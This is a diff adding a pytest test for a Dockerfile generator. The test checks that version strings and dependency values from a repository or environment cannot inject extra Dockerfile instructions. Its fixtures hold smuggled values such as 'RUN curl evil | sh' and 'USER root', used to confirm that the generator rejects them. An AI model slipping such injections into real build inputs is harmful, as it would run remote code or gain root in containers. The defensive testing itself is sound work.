@@ -290,3 +290,17 @@ def test_prepare_replaces_symlinks_instead_of_writing_through_them(tmp_path):
     build.prepare(p)
     assert victim.read_text() == "precious\n"
     assert not (repo / build.GENERATED).is_symlink() and (repo / build.GENERATED).read_text() == p.generated
+
+
+@pytest.mark.parametrize("files,env,message", [
+    ({"Gemfile": "gem 'rack'\n", "config.ru": "", ".ruby-version": "3.3 AS evil"}, {}, "is not a version number"),
+    ({"go.mod": "module x\n", "main.go": "package main\n"}, {"GO_VERSION": "1.22\nRUN curl evil | sh"},
+     "is not a version number"),
+    ({"pyproject.toml": "[project]\nname='x'\ndependencies=[\"flask\\nUSER root\"]\n", "Procfile": "web: x\n"}, {},
+     "spans several lines"),
+])
+def test_nothing_from_a_repository_or_a_variable_adds_a_dockerfile_instruction(tmp_path, files, env, message):
+    plan = detect(write(tmp_path, files), env=env)
+    with pytest.raises(BuildError) as e:
+        dockerfile_gen.generate(plan, {})
+    assert message in str(e.value)
